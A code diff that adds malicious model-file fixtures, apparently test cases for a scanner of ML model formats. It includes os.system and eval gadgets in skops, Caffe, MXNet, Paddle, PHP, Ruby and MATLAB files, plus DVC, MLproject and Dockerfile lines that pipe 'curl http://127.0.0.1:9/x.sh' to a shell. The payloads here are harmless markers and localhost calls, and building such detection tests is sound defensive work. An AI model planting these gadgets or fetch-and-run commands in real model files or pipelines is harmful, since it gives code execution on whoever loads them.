@@ -25,7 +25,13 @@ def skops_cases():
     tuple_of = lambda *items: {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items), "__id__": 20}  # noqa: E731
     text = lambda value: {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(value), "is_json": True}  # noqa: E731
     empty = {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 22}, "__id__": 21}
-    file = lambda inner, **more: zipped({"schema.json": schema({"f": inner}), **more}, 8)  # noqa: E731
+    def file(inner, **more):
+        """A ridge with one more attribute, `f`; as skops writes it, the keys of the state have types."""
+        ridge = json.loads(schema({"f": inner}))
+        keys = ridge["content"]["key_types"]["content"]
+        keys.extend({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 30} for _ in ridge["content"]["content"])
+        return zipped({"schema.json": json.dumps(ridge, indent=2).encode(), **more}, 8)
+
     return {
         "function.skops": file(node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"})),
         "function-builtins.skops": file(node("FunctionNode", "builtins", "eval", content={"module_path": "builtins", "function": "eval"})),
@@ -33,7 +39,7 @@ def skops_cases():
         "method-traversal.skops": file(node("MethodNode", "sklearn.linear_model._ridge", "Ridge", content={"func": "fit.__globals__", "obj": text("x")})),
         "operator.skops": file(node("OperatorFuncNode", "operator", "methodcaller", attrs=tuple_of(text("system"), text(COMMAND)))),
         "attrgetter.skops": file(node("OperatorFuncNode", "operator", "attrgetter", attrs=tuple_of(text("__class__.__init__.__globals__")))),
-        "partial.skops": file(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}), "args": tuple_of(text(COMMAND)), "kwds": empty, "namespace": empty})),
+        "partial.skops": file(node("PartialNode", "functools", "partial", content={"func": node("FunctionNode", "os", "system", content={"module_path": "os", "function": "system"}, __id__=10), "args": tuple_of(text(COMMAND)), "kwds": empty, "namespace": empty})),
         "type.skops": file(node("TypeNode", "subprocess", "Popen", content={"__class__": "Popen", "__module__": "subprocess"})),
         "object.skops": file(node("ObjectNode", "evil_package", "Model", content=empty)),
         "reduce.skops": file(node("ReduceNode", "os", "system", reduce={"args": tuple_of(text(COMMAND))}, content=None)),
@@ -119,6 +125,26 @@ def flax_cases():
     }
 
 
+def serving_cases():
+    """What other servers and tools run when they load or serve a model."""
+    caffe = b'name: "net"\nlayer {\n  name: "run"\n  type: "Python"\n  bottom: "data"\n  top: "out"\n  python_param { module: "os" layer: "system" param_str: "touch sealyard-marker" }\n}\n'
+    mxnet = {"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "Custom", "name": "run", "attrs": {"op_type": "run_shell", "command": "touch sealyard-marker"}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "heads": [[1, 0, 0]]}
+    return {
+        "caffe/deploy.prototxt": caffe,
+        "mxnet/model-symbol.json": json.dumps(mxnet, indent=1).encode(),
+        "paddle/model.pdparams": dumps({"linear.weight": [1.0], "hook": Call(SYSTEM, COMMAND)}, 2),
+        "triton": {"config.pbtxt": b'name: "tiny"\nbackend: "python"\nmax_batch_size: 1\n', "1/model.py": SCRIPT + b"\n\nclass TritonPythonModel:\n    pass\n"},
+        "dvc.yaml": b"stages:\n  train:\n    cmd: curl -s http://127.0.0.1:9/x.sh | sh\n    outs: [model.pkl]\n",
+        "project/MLproject": b"name: tiny\nentry_points:\n  main:\n    command: \"curl -s http://127.0.0.1:9/x.sh | bash\"\n",
+        "docker/Dockerfile": b"FROM python:3.11\nRUN curl -s http://127.0.0.1:9/x.sh | sh\nCOPY model.pkl /\n",
+        "bento/bentofile.yaml": b"service: 'evil:svc'\npython:\n  index_url: http://127.0.0.1:9/simple\n  packages: [tiny-model-helpers]\ndocker:\n  setup_script: ./setup.sh\n",
+        "ruby/model.marshal": b"\x04\x08o:\x15Gem::Requirement\x06:\x12@requirementso:\x18Gem::RequestSet\x06:\x0a@sets[\x00",
+        "php/model.ser": b'O:8:"Evil\\Run":1:{s:7:"command";s:21:"touch sealyard-marker";}\n',
+        "matlab/model.mat": b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124, b" ") + b"\x00\x01IM" + b"\x0e\x00\x00\x00\x40\x00\x00\x00\x06\x00\x00\x00\x08\x00\x00\x00\x11\x00\x00\x00\x00\x00\x00\x00\x01\x00\x04\x00run\x00\x01\x00\x04\x00java\x01\x00\x11\x00java.lang.Runtime",
+        "chained.pmml.pkl": dumps({"model": Call(Global("sklearn2pmml", "sklearn2pmml"), None, MARKER, Call(Global("os", "popen"), COMMAND))}, 3),
+    }
+
+
 def script_cases():
     notebook = {"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": [f"!{COMMAND}\n"]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
     html = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {"trusted": True}, "source": [], "outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<img src=x onerror=\"fetch('http://127.0.0.1:9/')\">"]}}]}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
@@ -172,5 +198,5 @@ def cases():
            "type.skops": f"m.f(['sh', '-c', {COMMAND!r}])"}
     found = [Case(name, content, "skops " + name.split(".")[0], "joblib" if "joblib" in name else "skops" if name in use else None, use.get(name))
              for name, content in skops_cases().items()]
-    found += [Case(name, content, name, None) for name, content in {**mlflow_cases(), **r_cases(), **flax_cases()}.items()]
+    found += [Case(name, content, name, None) for name, content in {**mlflow_cases(), **r_cases(), **flax_cases(), **serving_cases()}.items()]
     return found + [Case(name, content, name, load) for name, (content, load) in script_cases().items()]
